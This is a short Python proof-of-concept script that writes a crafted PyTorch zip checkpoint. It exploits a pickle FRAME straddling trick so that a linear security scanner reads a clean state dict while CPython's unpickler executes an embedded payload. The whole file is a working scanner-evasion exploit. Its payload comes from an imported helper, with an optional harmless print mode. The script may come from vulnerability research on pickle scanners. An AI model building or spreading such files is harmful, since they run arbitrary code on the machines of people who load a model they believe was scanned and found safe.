# CPython's C unpickler reading a file without peek() (torch's zip path: io.BytesIO(data.pkl)) reads a FRAME with
# one read(); an opcode whose argument runs past the frame end is then served by a FRESH read() from the frame
# end, silently skipping the unread frame bytes (_Unpickler_ReadFromFile discards the buffer). The scanner reads
# linearly, so from there on both see different opcodes: here the scanner sees a clean state dict with a
# harmless BINBYTES, CPython executes the BINBYTES payload.
# usage: python3 z2_frame_straddle.py OUT [print]
import sys, struct, io, pickle, zipfile; import os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), 'lib'))
from zb import *; from common import *
out = sys.argv[1]; harmless = len(sys.argv) > 2
E = evil(harmless, proto=0)            # c builtins print ( X ... t R .
r = 6; N = 64
frame = b'X' + struct.pack('<I', N) + b'J' * r              # X's payload crosses the frame end by N-r bytes
P = b'A' * (N - r) + b'0B' + struct.pack('<I', len(E)) + E + b'0' + CLEAN_PKL[2:]
pkl = b'\x80\x04\x95' + struct.pack('<Q', len(frame)) + frame + P
z = Z()
z.add('archive/data.pkl', pkl); z.add('archive/data/0', CLEAN_DATA0); z.add('archive/version', b'3\n')
open(out, 'wb').write(z.finish())
if harmless:
    d = zipfile.ZipFile(out).read('archive/data.pkl')
    print('Unpickler(BytesIO).load() ->', pickle.Unpickler(io.BytesIO(d)).load(), '(torch: io.BytesIO(zip_file.get_record(...)))')
